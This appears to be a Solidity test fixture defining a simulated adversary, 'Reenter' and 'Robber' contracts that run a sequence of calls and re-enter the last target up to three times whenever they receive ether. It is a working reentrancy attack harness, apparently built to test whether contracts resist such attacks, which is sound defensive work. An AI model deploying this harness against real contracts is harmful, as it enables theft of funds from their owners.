// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

/// @notice A call of a dishonest contract.
struct Step {
    address target;
    uint256 value;
    bytes data;
    /// Whether the first argument is what the first step returned.
    bool ofFirst;
}

/// @title A robbery in one transaction
/// @notice Simulated adversary: its creation sets up a contract that makes some calls and makes the latest of them again whenever
/// it is paid.
contract Reenter {
    constructor(Step[] memory steps) payable {
        new Robber{value: msg.value}().run(steps);
    }
}

/// @title A contract that calls back on receiving ether
contract Robber {
    uint256 internal constant MOST = 3;

    address internal _target;
    bytes internal _data;
    uint256 internal _times;

    constructor() payable {}

    receive() external payable {
        if (_times == MOST) return;
        ++_times;
        // A refusal is what an honest contract answers: it does not undo the robbery.
        (bool success,) = _target.call(_data);
        success;
    }

    /// @notice Makes the calls, one after the other, whatever becomes of each.
    function run(Step[] memory steps) external {
        bytes32 first;
        for (uint256 i; i < steps.length; ++i) {
            bytes memory data = steps[i].data;
            if (steps[i].ofFirst) {
                assembly ("memory-safe") {
                    mstore(add(data, 36), first)
                }
            }
            (_target, _data) = (steps[i].target, data);
            (bool success, bytes memory output) = steps[i].target.call{value: steps[i].value}(data);
            if (i == 0 && success && output.length >= 32) first = bytes32(output);
        }
    }
}
